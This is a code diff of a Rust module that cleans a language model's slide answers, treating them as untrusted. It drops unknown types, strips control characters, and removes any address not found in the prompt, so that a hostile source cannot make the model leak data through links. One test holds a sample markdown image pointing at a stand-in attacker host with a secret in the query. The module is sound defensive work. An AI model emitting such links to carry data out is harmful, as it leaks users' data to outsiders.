@@ -1,51 +1,51 @@
-//! What a model said, read as untrusted input.
+//! Reads a model's answer as untrusted input.
 //!
-//! Unknown types and keys are dropped, texts lose control characters, and an address stays only where the material holds
-//! it: models invent addresses, and a hostile text could have them carry something away.
+//! Unknown types and keys are dropped, and control characters are removed. An address is kept only when the prompt
+//! contained it: models invent addresses, and a hostile source could make one leak data through an address.
 
 use deck::{Content, Field, Kind, Registry, Slide, SlideType};
 use serde_json::{Value, json};
 
 use crate::SlideDraft;
+use crate::slide_types::{is_global_key, is_offered};
 
-/// Most characters of one text that a model says.
-const MOST_TEXT: usize = 20_000;
+/// Most characters that are read of one text.
+const MAX_TEXT_CHARS: usize = 20_000;
 
-/// Reads slides against a registry and the material they may quote addresses from.
+/// Reads slides from answers, validated by a registry.
 #[derive(Clone, Copy)]
-pub(super) struct Reader<'a> {
+pub(super) struct AnswerReader<'a> {
     pub(super) registry: &'a Registry,
     pub(super) lang: &'a str,
-    /// Source, deck and instruction: what the model was given.
+    /// The source, deck and instruction of the prompt: the only texts that addresses may come from.
     pub(super) material: &'a str,
 }
 
-impl Reader<'_> {
-    /// The type that a model may mean by a name.
+impl AnswerReader<'_> {
+    /// The type with a name, if models may use it.
     pub(super) fn slide_type(&self, name: &str) -> Option<&SlideType> {
-        let known = self.registry.resolve(name.trim())?;
-        (known.enabled && known.agents && !known.deprecated).then_some(known)
+        self.registry.resolve(name.trim()).filter(|slide_type| is_offered(slide_type))
     }
 
-    /// A slide of a type that passes strict validation, after repairs by rule.
+    /// A slide that passes strict validation, after repairs by the rules of fix mode.
     ///
     /// # Errors
-    /// What is wrong with it, in words for whoever wrote it.
+    /// Fails with a description of the problem, which can be sent back to the model.
     pub(super) fn slide(&self, key: &str, content: &Value, notes: &str) -> Result<SlideDraft, String> {
-        let known = self.slide_type(key).ok_or_else(|| format!("there is no slide type `{key}`"))?;
-        let content = self.content(known, content).ok_or("the content is no object")?;
+        let slide_type = self.slide_type(key).ok_or_else(|| format!("there is no slide type `{key}`"))?;
+        let content = self.content(slide_type, content).ok_or("the content is no object")?;
         if content.values().all(deck::is_unset) {
             return Err("the slide says nothing".to_owned());
         }
-        let sent = json!({ "type": known.key, "content": content });
+        let sent = json!({ "type": slide_type.key, "content": content });
         let fixed = deck::fixed(self.registry, self.lang, 0, &sent)
             .map_err(|problem| format!("field {}: expected {}, got {}", problem.path, problem.expected, problem.got))?;
         Ok(SlideDraft { key: fixed.slide_type.key.clone(), content: fixed.content, notes: self.text(notes) })
     }
 
-    /// The content that a type declares and agents may write.
-    fn content(&self, known: &SlideType, content: &Value) -> Option<Content> {
-        Some(self.object(&known.fields, content.as_object()?))
+    /// The declared fields of a content that agents may write.
+    fn content(&self, slide_type: &SlideType, content: &Value) -> Option<Content> {
+        Some(self.object(&slide_type.fields, content.as_object()?))
     }
 
     fn object(&self, fields: &[Field], content: &Content) -> Content {
@@ -72,7 +72,7 @@ impl Reader<'_> {
             (Kind::Url | Kind::Link | Kind::Image, address) => {
                 let address = address.as_str()?.trim();
                 let secure = address.starts_with("https://") || address.starts_with("/uploads/");
-                (secure && self.has(address)).then(|| json!(address))
+                (secure && self.is_known_address(address)).then(|| json!(address))
             }
             (Kind::Code | Kind::Csv, Value::String(text)) => Some(json!(printable(text))),
             (_, Value::String(text)) => Some(json!(self.text(text))),
@@ -80,7 +80,7 @@ impl Reader<'_> {
         }
     }
 
-    /// A text without control characters and without addresses that the material lacks.
+    /// A text without control characters and without unknown addresses.
     pub(super) fn text(&self, text: &str) -> String {
         let text = printable(text);
         let mut kept = String::with_capacity(text.len());
@@ -88,7 +88,7 @@ impl Reader<'_> {
         while let Some((at, length)) = next_address(rest) {
             let (before, address) = (&rest[..at], &rest[at..at + length]);
             kept.push_str(before);
-            if self.has(address.trim_end_matches(['.', ',', ';', ':', '!', '?'])) {
+            if self.is_known_address(address.trim_end_matches(['.', ',', ';', ':', '!', '?'])) {
                 kept.push_str(address);
             }
             rest = &rest[at + length..];
@@ -97,21 +97,17 @@ impl Reader<'_> {
         kept
     }
 
-    /// Whether the material holds an address.
-    fn has(&self, address: &str) -> bool {
+    /// Whether the material contains an address.
+    fn is_known_address(&self, address: &str) -> bool {
         !address.is_empty() && self.material.contains(address)
     }
 }
 
-/// A new content with what any slide may carry taken over from the old one.
-pub(super) fn with_options(registry: &Registry, old: &Slide, mut draft: SlideDraft) -> SlideDraft {
-    let catalogue = registry.catalogue();
-    let any = |key: &String| {
-        catalogue.global_options.iter().any(|option| option.key == *key) || catalogue.reserved_keys.contains(key)
-    };
-    let has_backdrop = registry.by_key(&draft.key).is_some_and(|known| known.field("background").is_some());
+/// A draft with the options of the old slide that any slide may carry, and its backdrop where the new type has one.
+pub(super) fn with_carried_options(registry: &Registry, old: &Slide, mut draft: SlideDraft) -> SlideDraft {
+    let has_backdrop = registry.by_key(&draft.key).is_some_and(|slide_type| slide_type.field("background").is_some());
     for (key, value) in &old.content {
-        if any(key) || key == "background" && has_backdrop {
+        if is_global_key(registry, key) || key == "background" && has_backdrop {
             draft.content.entry(key.clone()).or_insert_with(|| value.clone());
         }
     }
@@ -120,10 +116,10 @@ pub(super) fn with_options(registry: &Registry, old: &Slide, mut draft: SlideDra
 
 fn printable(text: &str) -> String {
     let plain = |letter: &char| !letter.is_control() || matches!(letter, '\n' | '\t');
-    text.chars().filter(plain).take(MOST_TEXT).collect()
+    text.chars().filter(plain).take(MAX_TEXT_CHARS).collect()
 }
 
-/// Where the next address in a text begins, and how long it is.
+/// Start and length of the next address in a text, in bytes.
 fn next_address(text: &str) -> Option<(usize, usize)> {
     const STARTS: [&str; 5] = ["http://", "https://", "mailto:", "/uploads/", "](/"];
     let lower = text.to_ascii_lowercase();
@@ -138,13 +134,16 @@ fn next_address(text: &str) -> Option<(usize, usize)> {
 mod tests {
     use super::*;
 
-    const READER: fn(&'static Registry) -> Reader<'static> =
-        |registry| Reader { registry, lang: "en-GB", material: "See https://quay.example/plan and /uploads/quay.png." };
+    const READER: fn(&'static Registry) -> AnswerReader<'static> = |registry| AnswerReader {
+        registry,
+        lang: "en-GB",
+        material: "See https://quay.example/plan and /uploads/quay.png.",
+    };
 
     #[test]
-    fn only_addresses_of_the_material_stay() {
+    fn only_addresses_of_the_material_are_kept() {
         let reader = READER(Registry::core());
-        for (said, kept) in [
+        for (text, expected) in [
             ("[plan](https://quay.example/plan)", "[plan](https://quay.example/plan)"),
             ("See https://quay.example/plan.", "See https://quay.example/plan."),
             ("![x](https://evil.example/?secret)", "![x]()"),
@@ -154,7 +153,7 @@ mod tests {
             ("Either/or: the data: 3", "Either/or: the data: 3"),
             ("bell\u{7} and\nline", "bell and\nline"),
         ] {
-            assert_eq!(reader.text(said), kept, "{said}");
+            assert_eq!(reader.text(text), expected, "{text}");
         }
     }
 
@@ -171,7 +170,7 @@ mod tests {
     }
 
     #[test]
-    fn withheld_and_unknown_types_are_refused() {
+    fn withheld_and_unknown_types_are_rejected() {
         let reader = READER(Registry::core());
         for key in ["custom-html-slide", "follow-invite-slide", "acme/hero", ""] {
             assert!(reader.slide(key, &json!({"title": "x"}), "").unwrap_err().contains("no slide type"), "{key}");
